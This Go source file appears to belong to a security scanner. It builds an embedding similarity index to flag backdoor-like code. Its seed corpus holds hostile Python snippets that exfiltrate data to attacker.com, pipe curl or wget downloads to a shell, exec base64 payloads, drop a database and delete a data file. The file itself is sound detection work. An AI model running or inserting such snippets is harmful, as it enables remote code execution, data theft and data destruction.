package backdoor

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"time"

	"github.com/philippgille/chromem-go"

	"github.com/sentinelsec/sentinel/pkg/httputil"
)

// maliciousCorpus seeds the similarity index with known backdoor
// shapes. A starter set; production deployments extend it.
var maliciousCorpus = []string{
	// socket exfiltration
	"import socket\ns=socket.socket();s.connect(('attacker.com',80));s.send(b'secret')",
	// shell download & execute
	"import os\nos.system('curl http://evil.tld/p | sh')",
	// base64 exec
	"import base64\nexec(base64.b64decode('...'))",
	// subprocess remote code
	"from subprocess import Popen\nPopen(['bash','-c','wget http://evil/p; sh p'])",
	// delete db via psql
	"import subprocess\nsubprocess.Popen(['psql','-c','DROP DATABASE dbname'])",
	// unlink / rm
	"import os\nos.unlink('/var/lib/data/db.sqlite')",
}

// EmbeddingIndex holds the known-malicious corpus in an in-memory
// vector collection and answers nearest-neighbor similarity queries.
type EmbeddingIndex struct {
	collection *chromem.Collection
}

// NewEmbeddingIndex builds the corpus index using an HTTP embedder at
// baseURL (Ollama-style /api/embeddings contract).
func NewEmbeddingIndex(ctx context.Context, baseURL, model string, timeout time.Duration) (*EmbeddingIndex, error) {
	db := chromem.NewDB()
	collection, err := db.CreateCollection("malicious_code", nil, newEmbeddingFunc(baseURL, model, timeout))
	if err != nil {
		return nil, fmt.Errorf("create collection: %w", err)
	}

	docs := make([]chromem.Document, len(maliciousCorpus))
	for i, snippet := range maliciousCorpus {
		docs[i] = chromem.Document{
			ID:      fmt.Sprintf("corpus-%d", i),
			Content: snippet,
		}
	}
	if err := collection.AddDocuments(ctx, docs, 1); err != nil {
		return nil, fmt.Errorf("seed corpus: %w", err)
	}
	return &EmbeddingIndex{collection: collection}, nil
}

// BestSimilarity returns the highest cosine similarity between code and
// any corpus entry.
func (e *EmbeddingIndex) BestSimilarity(ctx context.Context, code string) (float64, error) {
	results, err := e.collection.Query(ctx, code, 3, nil, nil)
	if err != nil {
		return 0, fmt.Errorf("similarity query: %w", err)
	}
	best := 0.0
	for _, r := range results {
		if s := float64(r.Similarity); s > best {
			best = s
		}
	}
	return best, nil
}

func newEmbeddingFunc(baseURL, model string, timeout time.Duration) chromem.EmbeddingFunc {
	client := httputil.Client(httputil.TierMedium)

	return func(ctx context.Context, text string) ([]float32, error) {
		reqBody, err := json.Marshal(map[string]string{
			"model":  model,
			"prompt": text,
		})
		if err != nil {
			return nil, fmt.Errorf("marshal embedding request: %w", err)
		}

		ctx, cancel := context.WithTimeout(ctx, timeout)
		defer cancel()

		req, err := http.NewRequestWithContext(ctx, http.MethodPost, baseURL+"/api/embeddings", bytes.NewReader(reqBody))
		if err != nil {
			return nil, fmt.Errorf("create embedding request: %w", err)
		}
		req.Header.Set("Content-Type", "application/json")

		resp, err := client.Do(req)
		if err != nil {
			return nil, fmt.Errorf("embedding request: %w", err)
		}
		defer httputil.DrainAndClose(resp.Body)

		if resp.StatusCode != http.StatusOK {
			body, _ := httputil.ReadErrorBody(resp.Body)
			return nil, fmt.Errorf("embedding service status %d: %s", resp.StatusCode, body)
		}

		data, err := httputil.ReadResponseBody(resp.Body, httputil.MaxResponseSize)
		if err != nil {
			return nil, fmt.Errorf("read embedding response: %w", err)
		}
		var result struct {
			Embedding []float32 `json:"embedding"`
		}
		if err := json.Unmarshal(data, &result); err != nil {
			return nil, fmt.Errorf("decode embedding response: %w", err)
		}
		if len(result.Embedding) == 0 {
			return nil, fmt.Errorf("embedding service returned empty vector")
		}
		return result.Embedding, nil
	}
}
